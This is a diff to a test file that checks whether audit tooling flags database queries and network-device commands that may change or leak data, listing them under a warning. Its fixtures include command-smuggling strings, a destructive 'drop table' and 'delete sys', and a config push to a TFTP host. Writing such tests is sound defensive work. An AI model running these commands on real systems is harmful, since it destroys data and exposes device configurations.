@@ -23,6 +23,12 @@ test("a query that may do more than ask comes first, under a warning", () => {
     "select 1\n\\! id",
     "select 1; drop table t",
     "select a into outfile '/tmp/x' from t",
+    "select 1 \\g |id",
+    "select 1\n@evil",
+    "select 1\n#host id",
+    "select 1\nsource /tmp/x",
+    "with x as (delete from t returning a) select a from x",
+    "select pg_terminate_backend(1)",
   ];
   for (const text of doing) {
     const script = queryScript(["db.audit"], [answer("select b from t"), answer(text)], "mysql");
@@ -62,6 +68,32 @@ test("what is typed on a device: the pager first, then what shows, then the rest
   ]);
   assert.match(
     shown,
-    /! These do not begin with show or the like\. They are the policy's: read them first\.\nreload/,
+    /! These may do more than show something\. They are the policy's: read them first\.\nreload/,
   );
+});
+
+test("a command that goes on behind what it shows is listed under the warning", () => {
+  const hostile = [
+    "show version ; reload",
+    "show running-config | redirect tftp://192.0.2.1/x",
+    'tmsh -c "cd /;list all-properties recursive"; id',
+    'tmsh -c "cd /; delete sys"',
+    "show version | bash id",
+    "display version > flash:/x",
+    "get system `id`",
+  ];
+  for (const text of hostile) {
+    const lines = deviceCommands(["r.audit"], [command("show version"), command(text)], "Cisco").split("\n");
+    const warning = lines.findIndex((line) => line.startsWith("! These may do more"));
+    assert.ok(warning > lines.indexOf("show version"), text);
+    assert.ok(lines.indexOf(text) > warning, text);
+  }
+  const plain = deviceCommands(["r.audit"], [command('tmsh -c "cd /;list all-properties recursive"')], "F5");
+  assert.doesNotMatch(plain, /may do more/);
+});
+
+test("a query whose quote does not end would take in what follows: it is left out", () => {
+  const script = queryScript(["db.audit"], [answer("select 'a"), answer("select b")], "psql");
+  assert.ok(!script.includes("select 'a"));
+  assert.ok(script.includes("select b;"));
 });
